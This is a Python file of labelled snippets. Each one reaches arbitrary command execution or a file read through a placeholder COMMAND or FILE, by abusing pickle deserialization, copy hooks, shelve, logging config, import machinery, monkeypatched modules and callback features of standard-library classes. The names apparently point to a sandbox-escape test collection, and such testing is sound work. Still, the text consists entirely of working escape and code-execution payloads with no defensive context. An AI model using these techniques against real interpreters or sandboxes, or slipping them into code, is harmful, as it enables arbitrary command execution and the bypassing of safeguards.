# Objects that run code when they are loaded, and the import system turned against its owner.

# == pickle
import os, pickle
class A:
    def __reduce__(self): return os.system, (COMMAND,)
pickle.loads(pickle.dumps(A()))

# == pickle by hand
import pickle
pickle.loads(b'cos\nsystem\n(V' + COMMAND.encode() + b'\ntR.')

# == pickle through builtins
import pickle
pickle.loads(b'cbuiltins\nexec\n(V' + f'import os; os.system({COMMAND!r})'.encode() + b'\ntR.')

# == an unpickler that finds classes its own way
import io, os, pickle
class U(pickle._Unpickler):
    def find_class(self, module, name): return os.system
U(io.BytesIO(b'cx\ny\n(V' + COMMAND.encode() + b'\ntR.')).load()

# == copy
import copy, os
class A:
    def __reduce_ex__(self, protocol): return os.system, (COMMAND,)
copy.copy(A())

# == deepcopy
import copy, os
class A:
    def __deepcopy__(self, memo): return os.system(COMMAND)
copy.deepcopy([A()])

# == copyreg
import copy, copyreg, os
class A: pass
copyreg.pickle(A, lambda a: (os.system, (COMMAND,)))
copy.copy(A())

# == shelve
import os, pickle, shelve
class A:
    def __reduce__(self): return os.system, (COMMAND,)
shelve.Shelf({b'x': pickle.dumps(A())})['x']

# == logging by a dictionary
import logging.config
logging.config.dictConfig({'version': 1, 'formatters': {'x': {'()': 'os.system', 'command': COMMAND}}})

# == pkgutil
import pkgutil
pkgutil.resolve_name('os:system')(COMMAND)

# == pydoc
import pydoc
pydoc.locate('os.system')(COMMAND)

# == importlib
import importlib
importlib.import_module('os').system(COMMAND)

# == __import__ of the real builtins
import sys
sys.modules['builtins'].__import__('subprocess').call(['sh', '-c', COMMAND])

# == the builtin importer
[c for c in {}.__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('posix').system(COMMAND)

# == a finder of one's own
import sys, importlib.util, importlib.abc
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None): return importlib.util.spec_from_loader(name, self) if name == 'canary_found' else None
    def create_module(self, spec): return None
    def exec_module(self, module): module.text = sys.modules['builtins'].open(FILE).read()
sys.meta_path.insert(0, Finder())
sys.modules['builtins'].__import__('canary_found').text

# == the import function replaced
import sys
builtins = sys.modules['builtins']
real = builtins.__import__
builtins.__import__ = lambda name, *args: real('os' if name == 'math' else name)
try: real('importlib').import_module('os').system(COMMAND)
finally: builtins.__import__ = real

# == a module poisoned for whoever comes next
import json, os
real = json.dumps
def dumps(*args, **kwargs):
    os.system(COMMAND)
    return real(*args, **kwargs)
json.dumps = dumps
try: json.dumps(1)
finally: json.dumps = real

# == an extension module from disk
import importlib.machinery, importlib.util, _ctypes
spec = importlib.util.spec_from_file_location('_ctypes', _ctypes.__file__)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
import ctypes
ctypes.CDLL(None).system(COMMAND.encode())

# == a reload
import importlib, os
importlib.reload(os).system(COMMAND)

# == a module dropped and loaded anew
import sys
kept = sys.modules.pop('os')
try: sys.modules['builtins'].__import__('os').system(COMMAND)
finally: sys.modules['os'] = kept

# == code from a string module
import types
module = types.ModuleType('x')
exec('import os\ndef f(c): return os.system(c)', module.__dict__)
module.f(COMMAND)

# == gettext's module
import gettext
gettext.c2py.__globals__['os'].system(COMMAND)

# == a named tuple's defaults
import collections, os
collections.namedtuple('N', 'x', defaults=[os.system])().x(COMMAND)

# == a data class's factory
import dataclasses, os
@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default_factory=lambda: os.system(COMMAND))
A()

# == a template's mapping
import os, string
class M(dict):
    def __missing__(self, key): return os.system(COMMAND)
string.Template('$x').substitute(M())

# == a regular expression's replacement
import os, re
re.sub('x', lambda m: str(os.system(COMMAND)), 'x')
